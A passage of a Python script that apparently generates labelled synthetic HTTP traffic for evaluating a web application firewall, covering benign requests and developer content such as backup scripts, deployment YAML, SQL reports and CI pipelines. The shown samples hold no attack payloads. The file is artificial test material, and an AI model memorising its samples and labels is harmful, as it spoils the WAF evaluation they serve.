              body=review("Ingress", "networking.k8s.io", "v1", "ingresses", obj), ctype=JSON_CT, ua="kube-apiserver-admission", accept="application/json, */*")
    for i in range(6):
        nm = g.r.choice(["checkout", "worker", "redis", "frontend", "batch-report"]) + "-" + g.alnum(5).lower()
        cmd = g.r.choice([None, ["/bin/sh", "-c", "exec gunicorn app:app --bind 0.0.0.0:8000 --workers 4"],
                          ["sh", "-c", "until nc -z postgres 5432; do echo waiting for db; sleep 2; done"], ["python", "-m", "worker", "--queue=reports"]])
        container = {"name": nm.split("-")[0], "image": f"registry.example.com/{nm.split('-')[0]}:1.{g.r.randrange(0, 30)}.{g.r.randrange(0, 9)}",
                     "ports": [{"containerPort": 8080, "protocol": "TCP"}], "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"memory": "512Mi"}},
                     "env": [{"name": "LOG_LEVEL", "value": "info"}, {"name": "DATABASE_URL", "valueFrom": {"secretKeyRef": {"name": "db", "key": "url"}}}],
                     "securityContext": {"runAsNonRoot": True, "allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True}}
        if cmd:
            container["command"] = cmd
        obj = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": nm, "namespace": "prod", "generateName": nm[:-5],
               "labels": {"app": nm.split("-")[0], "pod-template-hash": g.hexs(10)}, "annotations": {"prometheus.io/scrape": "true", "prometheus.io/port": "9090"}},
               "spec": {"containers": [container], "serviceAccountName": "default", "restartPolicy": "Always"}}
        g.add(B, T, "POST", "/validate?timeout=10s", "gatekeeper-webhook-service.gatekeeper-system.svc:443",
              body=review("Pod", "", "v1", "pods", obj), ctype=JSON_CT, ua="kube-apiserver-admission", accept="application/json, */*")
    g.add(B, T, "POST", "/mutate-v1-pod?timeout=10s", "cert-manager-webhook.cert-manager.svc:443",
          body=review("Certificate", "cert-manager.io", "v1", "certificates", {"kind": "Certificate", "apiVersion": "cert-manager.io/v1",
                      "metadata": {"name": "web-tls", "namespace": "prod"}, "spec": {"secretName": "web-tls", "dnsNames": ["web.example.com"],
                      "issuerRef": {"name": "letsencrypt-prod", "kind": "ClusterIssuer"}}}), ctype=JSON_CT, ua="kube-apiserver-admission")


def ben_misc(g):
    B = "benign"
    H = "dev.example.com:5173"
    for uri in ["/@vite/client", "/src/main.tsx", "/src/App.tsx?t=" + str(1747213953000 + g.r.randrange(10**5)), "/node_modules/.vite/deps/react-dom_client.js?v=" + g.hexs(8),
                "/@fs/home/dev/projects/shop/node_modules/vite/dist/client/env.mjs", "/src/assets/logo.svg?import", "/@react-refresh"]:
        g.add(B, "vite-dev", "GET", uri, H, [("Referer", "http://dev.example.com:5173/")])
    H = "app.example.com"
    g.add(B, "livewire", "POST", "/livewire/update", H, [("X-Livewire", "true"), ("Cookie", "laravel_session=" + g.alnum(40) + "; XSRF-TOKEN=" + g.alnum(40))],
          body=jd({"_token": g.alnum(40), "components": [{"snapshot": jd({"data": {"search": "", "perPage": 10, "items": [[], {"s": "arr"}]},
                   "memo": {"id": g.alnum(20), "name": "orders-table", "path": "orders", "method": "GET", "children": [], "errors": [], "locale": "en"},
                   "checksum": g.hexs(64)}), "updates": {"search": "anna"}, "calls": [{"path": "", "method": "sortBy", "params": ["created_at"]}]}]}),
          ctype=JSON_CT, accept="application/json")
    g.add(B, "livewire", "POST", "/livewire/update", H, [("X-Livewire", "true")],
          body=jd({"_token": g.alnum(40), "components": [{"snapshot": jd({"data": {"qty": 1}, "memo": {"id": g.alnum(20), "name": "cart-item"}, "checksum": g.hexs(64)}),
                   "updates": {"qty": 3}, "calls": []}]}), ctype=JSON_CT, accept="application/json")
    H = "sso.example.com"
    for i in range(4):
        g.add(B, "keycloak", "POST", "/realms/corp/login-actions/authenticate?session_code=" + g.alnum(43) + "&execution=" + g.uuid() + "&client_id=grafana&tab_id=" + g.alnum(11),
              H, [("Cookie", "AUTH_SESSION_ID=" + g.uuid() + ".kc-0; KC_RESTART=" + g.alnum(80))],
              body=form([("username", email(g)), ("password", g.alnum(14)), ("credentialId", "")]), ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, "keycloak", "GET", "/realms/corp/protocol/openid-connect/auth?client_id=grafana&redirect_uri=" + q("https://grafana.example.com/login/generic_oauth") +
          "&response_type=code&scope=openid+email+profile&state=" + g.alnum(22) + "&code_challenge=" + g.alnum(43) + "&code_challenge_method=S256", H, accept=HTML_ACCEPT)
    g.add(B, "keycloak", "POST", "/realms/corp/protocol/openid-connect/token", H,
          body=form([("grant_type", "authorization_code"), ("code", g.uuid() + "." + g.uuid()), ("redirect_uri", "https://grafana.example.com/login/generic_oauth"),
                     ("client_id", "grafana"), ("client_secret", g.alnum(32)), ("code_verifier", g.alnum(64))]), ctype=FORM, ua="Go-http-client/2.0", accept="application/json")
    g.add(B, "oauth2-proxy", "GET", "/oauth2/start?rd=" + q("https://app.example.com/dashboard?tab=billing"), "auth.example.com", accept=HTML_ACCEPT)
    g.add(B, "oauth2-proxy", "GET", "/login?next=" + q("/settings/profile"), "app.example.com", accept=HTML_ACCEPT)
    H = "jenkins.example.com"
    g.add(B, "jenkins", "POST", "/j_spring_security_check", H, body=form([("j_username", "release-bot"), ("j_password", g.alnum(16)), ("from", "/job/shop/"), ("Submit", "Sign in")]),
          ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, "jenkins", "POST", "/job/shop/job/main/build?delay=0sec", H, [("Jenkins-Crumb", g.hexs(64)), ("Authorization", "Basic " + b64("release-bot:" + g.hexs(34)))],
          body="", ctype=FORM, ua=g.tool())
    g.add(B, "jenkins", "GET", "/job/shop/job/main/lastBuild/api/json?tree=result,timestamp,duration,building", H,
          [("Authorization", "Basic " + b64("release-bot:" + g.hexs(34)))], ua=g.tool(), accept="application/json")
    H = "kibana.example.com"
    g.add(B, "kibana", "POST", "/internal/search/es", H, [("kbn-xsrf", "true"), ("kbn-version", "8.17.2")],
          body=jd({"params": {"index": "logs-*", "body": {"size": 100, "sort": [{"@timestamp": "desc"}], "query": {"bool": {"filter": [
              {"range": {"@timestamp": {"gte": "now-15m"}}}, {"match_phrase": {"kubernetes.namespace": "payments"}}]}}}}}),
          ctype=JSON_CT, accept="application/json")
    g.add(B, "kibana", "POST", "/api/saved_objects/_import?overwrite=true", H, [("kbn-xsrf", "true")],
          body=jd({"type": "index-pattern", "id": "logs", "attributes": {"title": "logs-*", "timeFieldName": "@timestamp"}}), ctype=JSON_CT, ua=g.tool())
    H = "zimbra.example.com"
    ics = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example Corp//Calendar//EN\r\nBEGIN:VEVENT\r\nUID:" + g.uuid() + "\r\nSUMMARY:Quarterly planning\r\n"
           "DESCRIPTION:Agenda: 1) numbers 2) hiring 3) Q&A\\nRoom 4.12\r\nLOCATION:Berlin HQ\r\nDTSTART:20250612T090000Z\r\nDTEND:20250612T103000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    g.add(B, "zimbra", "POST", "/service/home/~/Calendar?fmt=ics", H, [("Cookie", "ZM_AUTH_TOKEN=0_" + g.hexs(40))], body=ics, ctype="text/calendar")
    g.add(B, "wingftp", "POST", "/loginok.html", "ftp.example.com", body=form([("username", "photo-upload"), ("password", g.alnum(12)), ("username_val", "photo-upload"),
          ("remember", "true"), ("redirect", "")]), ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, "mcp-inspector", "GET", "/sse?transportType=sse&url=" + q("http://localhost:3001/sse"), "mcp-inspector.internal.example.com", accept="text/event-stream")
    # webhooks and probes seen by the same ingress
    for i in range(3):
        g.add(B, "webhook", "POST", "/api/webhooks/github", "ci.example.com",
              [("X-GitHub-Event", "push"), ("X-GitHub-Delivery", g.uuid()), ("X-Hub-Signature-256", "sha256=" + g.hexs(64))],
              body=jd({"ref": "refs/heads/main", "before": g.hexs(40), "after": g.hexs(40), "repository": {"full_name": "example/shop", "private": True},
                       "pusher": {"name": "anna", "email": "anna@example.com"}, "head_commit": {"id": g.hexs(40), "message": g.r.choice(
                           ["fix: handle empty cart in checkout", "feat(api): add /v2/orders pagination", "chore(deps): bump next from 15.2.2 to 15.2.4",
                            "docs: explain how to rotate the signing key"]), "timestamp": "2025-05-14T09:12:33+02:00"}}),
              ctype=JSON_CT, ua="GitHub-Hookshot/" + g.hexs(7))
    for i in range(2):
        g.add(B, "webhook", "POST", "/api/webhooks/stripe", "shop.example.com",
              [("Stripe-Signature", f"t={1747213953 + i},v1={g.hexs(64)}")],
              body=jd({"id": "evt_" + g.alnum(24), "object": "event", "type": "payment_intent.succeeded",
                       "data": {"object": {"id": "pi_" + g.alnum(24), "amount": g.r.randrange(500, 50000), "currency": "eur", "status": "succeeded"}}}),
              ctype=JSON_CT, ua="Stripe/1.0 (+https://stripe.com/docs/webhooks)")
    for uri, ua in [("/healthz", "kube-probe/1.31"), ("/readyz", "kube-probe/1.31"), ("/metrics", "Prometheus/2.53.0"),
                    ("/api/health", "Blackbox Exporter/0.25.0"), ("/livez", "kube-probe/1.32")]:
        g.add(B, "probes", "GET", uri, g.r.choice(["app.example.com", "api.example.com", "grafana.example.com"]), ua=ua)
    # ordinary proxy / SSRF-adjacent features with ordinary targets
    g.add(B, "link-preview", "POST", "/api/link-preview", "app.example.com", body=jd({"url": "https://www.example.org/blog/2025/spring-release"}),
          ctype=JSON_CT, accept="application/json")
    g.add(B, "link-preview", "GET", "/_next/image?url=" + q("https://images.example-cdn.com/p/shoe-42.jpg") + "&w=828&q=75", "www.example.com",
          accept="image/avif,image/webp,*/*")
    g.add(B, "webhook", "POST", "/api/webhooks", "app.example.com", body=jd({"name": "deploy", "url": "https://hooks.example.com/services/T00/B00/xyz", "events": ["push", "release"]}),
          ctype=JSON_CT, accept="application/json")
    g.add(B, "grafana", "POST", "/api/datasources", "grafana.example.com", [("Cookie", "grafana_session=" + g.hexs(32))],
          body=jd({"name": "prometheus-prod", "type": "prometheus", "access": "proxy", "url": "http://prometheus-operated.monitoring.svc:9090", "basicAuth": False}),
          ctype=JSON_CT, accept="application/json")


def ben_volume(g):
    """Ordinary day-to-day requests spread over the same products."""
    B = "benign"
    langs = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9", "ja-JP,ja;q=0.9,en;q=0.7", "pt-BR,pt;q=0.9"]
    for i in range(130):
        k = i % 13
        al = ("Accept-Language", g.r.choice(langs))
        if k == 0:
            sku = g.r.choice(PRODUCTS)
            g.add(B, "magento", "GET", "/" + sku.lower().replace(" ", "-").replace("(", "").replace(")", "").replace("'", "").replace("–", "-") + ".html", "shop.example.com",
                  [al, ("Cookie", f"PHPSESSID={g.alnum(26).lower()}; mage-cache-sessid=true")], accept=HTML_ACCEPT)
        elif k == 1:
            g.add(B, "magento", "POST", "/checkout/cart/add/uenc/" + b64("https://shop.example.com/").rstrip("=") + ",/product/" + str(g.r.randrange(100, 999)) + "/", "shop.example.com",
                  [al, ("X-Requested-With", "XMLHttpRequest")],
                  body=form([("product", str(g.r.randrange(100, 999))), ("selected_configurable_option", ""), ("related_product", ""),
                             ("item", str(g.r.randrange(100, 999))), ("form_key", g.alnum(16)), ("super_attribute[93]", str(g.r.randrange(50, 60))),
                             ("qty", str(g.r.randrange(1, 4)))]), ctype=FORM, accept="application/json, text/javascript, */*; q=0.01")
        elif k == 2:
            g.add(B, "nextjs", "GET", g.r.choice(["/blog/", "/docs/", "/changelog/"]) + "-".join(g.r.sample(WORDS, 3)), "www.example.com", [al], accept=HTML_ACCEPT)
        elif k == 3:
            g.add(B, "nextjs", "GET", "/api/products?category=" + q(g.r.choice(["shoes", "home & kitchen", "outdoor", "electronics"])) + "&sort=" +
                  g.r.choice(["price_asc", "newest", "rating"]) + "&page=" + str(g.r.randrange(1, 6)), "www.example.com", [al], accept="application/json")
        elif k == 4:
            g.add(B, "wordpress", "GET", "/wp-json/wp/v2/posts?search=" + q(g.r.choice(SEARCHES)) + "&per_page=5&_fields=id,title,link", "blog.example.com", accept="application/json")
        elif k == 5:
            g.add(B, "grafana", "GET", "/api/dashboards/uid/" + g.alnum(9), "grafana.example.com",
                  [("Cookie", "grafana_session=" + g.hexs(32)), ("X-Grafana-Org-Id", "1")], accept="application/json")
        elif k == 6:
            g.add(B, "roundcube", "GET", f"/?_task=mail&_action=preview&_uid={g.r.randrange(100, 9999)}&_mbox=INBOX&_framed=1", "mail.example.com",
                  [("Cookie", f"roundcube_sessid={g.alnum(26)}")], accept=HTML_ACCEPT)
        elif k == 7:
            f, l = name(g)
            g.add(B, "api", "PATCH", "/api/v1/users/" + g.uuid(), "api.example.com", [("Authorization", "Bearer " + g.alnum(40))],
                  body=jd({"firstName": f, "lastName": l, "locale": g.r.choice(["en-GB", "de-DE", "fr-FR"]),
                           "address": {"city": g.r.choice(CITIES), "line1": f"{g.r.randrange(1, 200)} {g.r.choice(['Main St', 'Rue de la Paix', 'Hauptstraße', 'Rua Augusta'])}"},
                           "marketingOptIn": g.r.random() < 0.5}), ctype=JSON_CT, accept="application/json")
        elif k == 8:
            g.add(B, "xwiki", "GET", f"/xwiki/bin/view/{g.r.choice(['Main', 'Engineering', 'HR', 'Ops'])}/{g.r.choice(WORDS).capitalize()}?viewer=comments",
                  "wiki.example.com", [("Cookie", "JSESSIONID=" + g.hexs(32).upper())], accept=HTML_ACCEPT)
        elif k == 9:
            g.add(B, "crushftp", "GET", "/WebInterface/function/?command=getXMLListing&format=JSONOBJ&path=" + q("/Shared/" + g.r.choice(WORDS).capitalize() + "/") +
                  "&random=" + str(g.r.random()), "files.example.com", [("Cookie", "CrushAuth=" + g.alnum(44))], accept="text/xml")
        elif k == 10:
            g.add(B, "geoserver", "GET", f"/geoserver/gwc/service/wmts?layer=osm%3Aroads&style=&tilematrixset=EPSG%3A900913&Service=WMTS&Request=GetTile&Version=1.0.0&Format=image%2Fpng&TileMatrix=EPSG%3A900913%3A{g.r.randrange(5, 15)}&TileCol={g.r.randrange(100, 9000)}&TileRow={g.r.randrange(100, 9000)}",
                  "maps.example.com", accept="image/png,*/*")
        elif k == 11:
            g.add(B, "api", "POST", "/api/v1/events", "api.example.com", [("Authorization", "Bearer " + g.alnum(40))],
                  body=jd({"event": g.r.choice(["page_view", "add_to_cart", "checkout_started", "search"]), "ts": 1747213953 + i * 17,
                           "props": {"path": g.r.choice(["/", "/products", "/cart"]), "query": g.r.choice(SEARCHES), "referrer": "https://www.example.org/"}}),
                  ctype=JSON_CT, accept="application/json")
        else:
            g.add(B, "sap-netweaver", "GET", "/sap/opu/odata/sap/API_SALES_ORDER_SRV/A_SalesOrder('" + str(g.r.randrange(10**6, 10**7)) + "')?$expand=to_Item&$format=json",
                  "sap.example.com", [("sap-client", "100"), ("Authorization", "Basic " + b64("SVC_FIORI:" + g.alnum(14)))], accept="application/json")


# ---------------------------------------------------------------------------
# dev-content: legitimate content that talks code or security (hard for a WAF)
# ---------------------------------------------------------------------------

BACKUP_SH = r"""#!/usr/bin/env bash
# Nightly backup of the Postgres cluster to object storage
set -euo pipefail
STAMP=$(date +%Y-%m-%d_%H%M)
BACKUP_DIR=/var/backups/pg
mkdir -p "$BACKUP_DIR"
pg_dumpall -U postgres | gzip -9 > "$BACKUP_DIR/cluster_${STAMP}.sql.gz"
aws s3 cp "$BACKUP_DIR/cluster_${STAMP}.sql.gz" "s3://example-backups/pg/" --storage-class STANDARD_IA
# keep 14 days locally
find "$BACKUP_DIR" -name 'cluster_*.sql.gz' -mtime +14 -delete
echo "backup ${STAMP} done" | logger -t pg-backup
"""

K8S_YAML = """apiVersion: apps/v1
kind: Deployment
metadata:
  name: checkout
  namespace: prod
spec:
  replicas: 3
  selector:
    matchLabels: {app: checkout}
  template:
    metadata:
      labels: {app: checkout}
    spec:
      containers:
        - name: checkout
          image: registry.example.com/checkout:2.14.1
          command: ["/bin/sh", "-c"]
          args: ["./migrate && exec ./server --port=8080"]
          readinessProbe:
            httpGet: {path: /readyz, port: 8080}
"""

NGINX_CONF = """server {
    listen 443 ssl http2;
    server_name shop.example.com;
    location / {
        proxy_pass http://127.0.0.1:3000;
        proxy_set_header Host $host;
        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
        # strip the internal header at the edge (see advisory for Next.js < 15.2.3)
        proxy_set_header x-middleware-subrequest "";
    }
    location ~ /\\.(git|env) { deny all; }
}
"""

PY_SNIPPET = '''import psycopg
from datetime import date, timedelta

def overdue_invoices(conn, days=30):
    cutoff = date.today() - timedelta(days=days)
    with conn.cursor() as cur:
        cur.execute(
            "SELECT id, customer_id, total FROM invoices WHERE paid_at IS NULL AND issued_on < %s ORDER BY issued_on",
            (cutoff,),
        )
        return cur.fetchall()
'''

SQLS = [
    "SELECT date_trunc('day', o.created_at) AS day, count(*) AS orders, sum(o.total) AS revenue\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.created_at >= now() - interval '30 days'\n  AND c.country IN ('DE', 'AT', 'CH')\nGROUP BY 1\nORDER BY 1;",
    "WITH ranked AS (\n  SELECT p.sku, p.name, sum(oi.qty) AS units,\n         rank() OVER (ORDER BY sum(oi.qty) DESC) AS rnk\n  FROM order_items oi JOIN products p ON p.id = oi.product_id\n  GROUP BY p.sku, p.name\n)\nSELECT * FROM ranked WHERE rnk <= 10;",
    "SELECT u.email, u.last_login_at\nFROM users u\nWHERE u.last_login_at < now() - interval '90 days'\nUNION ALL\nSELECT a.email, a.last_seen\nFROM admins a\nWHERE a.disabled = false AND a.last_seen IS NULL;",
    "BEGIN;\nALTER TABLE orders ADD COLUMN IF NOT EXISTS channel text DEFAULT 'web';\nCREATE INDEX CONCURRENTLY IF NOT EXISTS orders_channel_idx ON orders (channel);\nUPDATE orders SET channel = 'pos' WHERE store_id IS NOT NULL;\nCOMMIT;",
    "EXPLAIN (ANALYZE, BUFFERS)\nSELECT * FROM events WHERE tenant_id = 42 AND created_at BETWEEN '2025-05-01' AND '2025-05-14' ORDER BY created_at DESC LIMIT 100;",
    "SELECT pid, usename, state, now() - query_start AS runtime, left(query, 80)\nFROM pg_stat_activity\nWHERE state <> 'idle' ORDER BY runtime DESC;",
    "DROP TABLE IF EXISTS tmp_import;\nCREATE TEMP TABLE tmp_import (sku text, price numeric(10,2));\nCOPY tmp_import FROM STDIN WITH (FORMAT csv, HEADER true);",
    "SELECT c.name, CASE WHEN sum(o.total) > 1000 THEN 'gold' WHEN sum(o.total) > 250 THEN 'silver' ELSE 'bronze' END AS tier\nFROM customers c LEFT JOIN orders o ON o.customer_id = c.id\nGROUP BY c.name HAVING count(o.id) > 0;",
]

GROOVY_PIPELINES = [
    """pipeline {
    agent { kubernetes { yamlFile 'ci/pod.yaml' } }
    environment { REGISTRY = 'registry.example.com' }
    stages {
        stage('Test') {
            steps { sh 'npm ci && npm test -- --ci' }
        }
        stage('Build') {
            steps {
                sh "docker build -t ${REGISTRY}/shop:${env.GIT_COMMIT.take(7)} ."
                sh "docker push ${REGISTRY}/shop:${env.GIT_COMMIT.take(7)}"
            }
        }
        stage('Deploy') {
            when { branch 'main' }
            steps { sh 'kubectl -n prod set image deploy/shop shop=$REGISTRY/shop:$GIT_COMMIT' }
        }
    }
    post { failure { slackSend channel: '#ci', message: "Build failed: ${env.BUILD_URL}" } }
}""",
    """node('linux') {
    stage('Checkout') { checkout scm }
    stage('Backup') {
        def stamp = new Date().format('yyyyMMdd-HHmm')
        sh "pg_dump -h db.internal -U backup shop | gzip > shop-${stamp}.sql.gz"
        archiveArtifacts artifacts: "shop-${stamp}.sql.gz", fingerprint: true
    }
    stage('Cleanup') {
        def files = findFiles(glob: '*.sql.gz')
        files.each { f -> echo "keeping ${f.name}" }
    }
}""",
    """@Library('shared-lib@v3') _
def services = ['cart', 'checkout', 'catalog']
pipeline {
    agent any
    parameters { choice(name: 'ENV', choices: ['staging', 'prod'], description: 'Target') }
    stages {
        stage('Helm') {
            steps {
                script {
                    services.each { svc ->
                        sh "helm upgrade --install ${svc} charts/${svc} -n ${params.ENV} -f values/${params.ENV}.yaml --wait"
                    }
                }
            }
        }
    }
}""",
]

JS_CODE_NODES = [
    "// Normalise incoming leads\nreturn $input.all().map(item => {\n  const email = (item.json.email || '').trim().toLowerCase();\n  const [first, ...rest] = (item.json.name || '').split(' ');\n  return { json: { email, firstName: first, lastName: rest.join(' '), source: item.json.utm?.source ?? 'direct' } };\n});",
    "const total = items.reduce((sum, i) => sum + Number(i.json.amount || 0), 0);\nconst overdue = items.filter(i => new Date(i.json.due) < new Date());\nreturn [{ json: { total: total.toFixed(2), overdueCount: overdue.length } }];",
    "// Build a Slack digest\nconst lines = $input.all().map(i => `• *${i.json.title}* – <${i.json.url}|open> (${i.json.author})`);\nreturn [{ json: { text: `Today's merged PRs:\\n${lines.join('\\n')}` } }];",
    "const crypto = require('crypto');\nconst sig = crypto.createHmac('sha256', $env.WEBHOOK_SECRET).update(JSON.stringify($json.body)).digest('hex');\nif (sig !== $json.headers['x-signature']) { throw new Error('invalid signature'); }\nreturn $input.all();",
    "for (const item of $input.all()) {\n  item.json.slug = item.json.title.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/(^-|-$)/g, '');\n}\nreturn $input.all();",
]

LANGFLOW_COMPONENTS = [
    "from langflow.custom import Component\nfrom langflow.io import MessageTextInput, Output\nfrom langflow.schema import Data\n\n\nclass KeywordExtractor(Component):\n    display_name = \"Keyword Extractor\"\n    inputs = [MessageTextInput(name=\"text\", display_name=\"Text\")]\n    outputs = [Output(display_name=\"Keywords\", name=\"keywords\", method=\"build_output\")]\n\n    def build_output(self) -> Data:\n        words = [w.strip('.,!?').lower() for w in self.text.split()]\n        common = {w for w in words if len(w) > 6}\n        return Data(value=sorted(common))\n",
    "import re\nfrom langflow.custom import Component\nfrom langflow.io import MessageTextInput, Output\nfrom langflow.schema.message import Message\n\n\nclass RedactEmails(Component):\n    display_name = \"Redact e-mails\"\n    inputs = [MessageTextInput(name=\"text\")]\n    outputs = [Output(name=\"out\", method=\"run\")]\n\n    def run(self) -> Message:\n        return Message(text=re.sub(r\"[\\w.+-]+@[\\w-]+\\.[\\w.]+\", \"[email]\", self.text))\n",
    "def format_answer(answer: str, sources: list[str]) -> str:\n    refs = \"\\n\".join(f\"[{i + 1}] {s}\" for i, s in enumerate(sources))\n    return f\"{answer}\\n\\nSources:\\n{refs}\"\n",
]


def email_template(g, title):
    return ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">"
            "<style>body{margin:0;background:#f4f4f7;font-family:-apple-system,Segoe UI,Roboto,Helvetica,Arial,sans-serif}"
            ".btn{display:inline-block;padding:12px 24px;background:#3b5bdb;color:#fff!important;border-radius:6px;text-decoration:none}"
            "@media only screen and (max-width:600px){.container{width:100%!important}}</style></head>"
            "<body><table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\">"
            "<table class=\"container\" width=\"600\" style=\"background:#fff;border-radius:8px\"><tr><td style=\"padding:32px\">"
            f"<h1 style=\"font-size:22px\">{title}</h1><p>Hi {{{{first_name}}}},</p>"
            "<p>Your order <strong>#{{order_id}}</strong> is on its way. You can track it any time:</p>"
            "<p><a class=\"btn\" href=\"https://shop.example.com/track?o={{order_id}}&amp;utm_source=email&amp;utm_campaign=shipping\">Track my parcel</a></p>"
            "<p style=\"color:#888;font-size:12px\">You receive this e-mail because you ordered at Example Shop. "
            "<a href=\"https://shop.example.com/unsubscribe?token={{unsubscribe_token}}\">Unsubscribe</a></p>"
            f"</td></tr></table></td></tr></table><img src=\"https://t.example.com/o.gif?c={g.alnum(12)}\" width=\"1\" height=\"1\" alt=\"\">"
            "</body></html>")


def dev_content(g):
    D = "dev-content"
    # XWiki pages with code blocks
    H = "wiki.example.com"
    ck = ("Cookie", "JSESSIONID=" + g.hexs(32).upper() + "; username=" + g.alnum(30))
    pages = [
        ("Ops", "PostgresBackups", "= Postgres backups =\n\nThe cron job below runs at 02:00 on the db host.\n\n{{code language=\"bash\"}}\n" + BACKUP_SH + "{{/code}}\n\nRestore with ##gunzip -c file.sql.gz | psql -U postgres##."),
        ("Ops", "CheckoutDeployment", "= Checkout deployment =\n\n{{code language=\"yaml\"}}\n" + K8S_YAML + "{{/code}}\n\n{{info}}Roll back with ##kubectl rollout undo deploy/checkout -n prod##.{{/info}}"),
        ("Ops", "EdgeProxy", "= Edge proxy config =\n\nAfter the March 2025 Next.js advisory we drop the internal middleware header at the edge:\n\n{{code language=\"nginx\"}}\n" + NGINX_CONF + "{{/code}}"),
        ("Engineering", "DbAccessPatterns", "= Parameterised queries =\n\nAlways pass values separately from the SQL text:\n\n{{code language=\"python\"}}\n" + PY_SNIPPET + "{{/code}}\n\nNever build SQL with f-strings."),
        ("Engineering", "Reporting", "= Monthly revenue report =\n\n{{code language=\"sql\"}}\n" + SQLS[0] + "\n{{/code}}\n\n{{code language=\"sql\"}}\n" + SQLS[1] + "\n{{/code}}"),
        ("Engineering", "Dockerfile", "= Base image =\n\n{{code language=\"docker\"}}\nFROM node:22-alpine AS build\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\nCOPY . .\nRUN npm run build\n\nFROM gcr.io/distroless/nodejs22\nCOPY --from=build /app /app\nUSER 1000\nCMD [\"/app/server.js\"]\n{{/code}}"),
        ("IT", "WindowsLaptopSetup", "= Laptop setup =\n\n{{code language=\"powershell\"}}\nSet-ExecutionPolicy -Scope CurrentUser RemoteSigned\nwinget install --id Git.Git -e\nwinget install --id Microsoft.VisualStudioCode -e\nGet-ChildItem -Path $env:USERPROFILE\\Downloads -Filter *.msi | ForEach-Object { Write-Host $_.Name }\n{{/code}}"),
        ("Ops", "Ansible", "= Patch hosts =\n\n{{code language=\"yaml\"}}\n- hosts: web\n  become: true\n  tasks:\n    - name: upgrade packages\n      ansible.builtin.apt:\n        upgrade: dist\n        update_cache: true\n    - name: restart nginx if needed\n      ansible.builtin.service: {name: nginx, state: restarted}\n      when: ansible_facts['pkg_mgr'] == 'apt'\n{{/code}}"),
        ("Security", "PatchStatus2025", "= Patch status =\n\n|=Product|=Advisory|=Status\n|Next.js|CVE-2025-29927 (middleware bypass)|upgraded to 15.2.4\n|Tomcat|CVE-2025-24813 (partial PUT)|readonly=true, upgraded 10.1.40\n|Roundcube|CVE-2025-49113|upgraded 1.6.11\n|ingress-nginx|CVE-2025-1974|admission webhook not exposed, upgraded 1.12.1\n\nOwner: {{mention reference=\"XWiki.farid\"/}}"),
        ("Engineering", "Terraform", "= State layout =\n\n{{code language=\"hcl\"}}\nresource \"aws_s3_bucket\" \"backups\" {\n  bucket = \"example-backups\"\n}\n\nresource \"aws_instance\" \"bastion\" {\n  ami           = data.aws_ami.ubuntu.id\n  instance_type = \"t3.micro\"\n  metadata_options {\n    http_tokens = \"required\"\n  }\n}\n{{/code}}"),
    ]
    for sp, pg, content in pages:
        g.add(D, "xwiki-page", "POST", f"/xwiki/bin/save/{sp}/{pg}", H, [ck],
              body=form([("form_token", g.alnum(22)), ("title", pg), ("content", content), ("syntaxId", "xwiki/2.1"), ("comment", ""),
                         ("xredirect", f"/xwiki/bin/view/{sp}/{pg}")]), ctype=FORM, accept=HTML_ACCEPT)
    # Grafana panels with SQL datasources
    H = "grafana.example.com"
    gck = ("Cookie", "grafana_session=" + g.hexs(32))
    raw_sqls = [
        "SELECT $__timeGroupAlias(created_at, '1h'), count(*) AS orders FROM orders WHERE $__timeFilter(created_at) AND status IN ($status) GROUP BY 1 ORDER BY 1",
        "SELECT $__time(ts), value AS \"temperature\" FROM sensor_readings WHERE $__timeFilter(ts) AND sensor_id = '$sensor' ORDER BY ts",
        "SELECT country, sum(total) AS revenue FROM orders WHERE $__timeFilter(created_at) GROUP BY country ORDER BY revenue DESC LIMIT 10",
        "SELECT UNIX_TIMESTAMP(created_at) AS time_sec, COUNT(*) AS value, 'signups' AS metric FROM users WHERE $__timeFilter(created_at) GROUP BY 1 ORDER BY 1",
        "select state, count(*) from pg_stat_activity where datname = current_database() group by state",
    ]
    for sql in raw_sqls:
        g.add(D, "grafana-sql", "POST", "/api/ds/query?ds_type=grafana-postgresql-datasource&requestId=SQR" + str(g.r.randrange(100, 999)), H, [gck],
              body=jd({"queries": [{"refId": "A", "datasource": {"type": "grafana-postgresql-datasource", "uid": g.alnum(9)}, "rawSql": sql,
                                    "format": "time_series", "rawQuery": True, "editorMode": "code"}], "from": "now-24h", "to": "now"}),
              ctype=JSON_CT, accept="application/json")
    for sql in raw_sqls[:3]:
        dash = {"dashboard": {"uid": g.alnum(9), "title": "Shop KPIs", "panels": [{"id": 1, "type": "timeseries", "title": "Orders",
                "datasource": {"type": "mysql", "uid": "shopdb"}, "targets": [{"refId": "A", "rawSql": sql, "format": "time_series"}]}],
                "templating": {"list": [{"name": "status", "type": "query", "query": "SELECT DISTINCT status FROM orders"}]}}, "overwrite": True}
        g.add(D, "grafana-sql", "POST", "/api/dashboards/db", H, [gck], body=jd(dash), ctype=JSON_CT, accept="application/json")
    g.add(D, "grafana-alert", "POST", "/api/v1/provisioning/alert-rules", H, [("Authorization", "Bearer glsa_" + g.alnum(32))],
          body=jd({"title": "High 5xx rate", "ruleGroup": "api", "folderUID": g.alnum(9), "condition": "C", "for": "5m",
                   "data": [{"refId": "A", "datasourceUid": "prom", "model": {"expr": 'sum(rate(http_requests_total{code=~"5.."}[5m])) / sum(rate(http_requests_total[5m]))'}},
                            {"refId": "C", "datasourceUid": "__expr__", "model": {"type": "threshold", "expression": "A", "conditions": [{"evaluator": {"type": "gt", "params": [0.05]}}]}}],
                   "annotations": {"summary": "5xx ratio above 5% for {{ $labels.route }}", "runbook_url": "https://wiki.example.com/xwiki/bin/view/Ops/OnCall"}}),
